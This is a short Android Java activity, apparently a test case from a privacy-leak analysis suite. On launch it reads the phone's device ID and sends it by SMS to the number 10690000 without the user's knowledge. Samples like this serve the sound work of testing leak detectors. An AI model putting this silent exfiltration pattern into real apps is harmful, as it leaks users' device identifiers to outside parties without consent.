package cn.privlens.suite.report_column_serial;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        Report report = new Report();
        report.add("phone", phone.getDeviceId(), 1);
        report.add("cover", "none", 2);
        SmsManager.getDefault().sendTextMessage("10690000", null, report.serials(), null, null);
    }
}
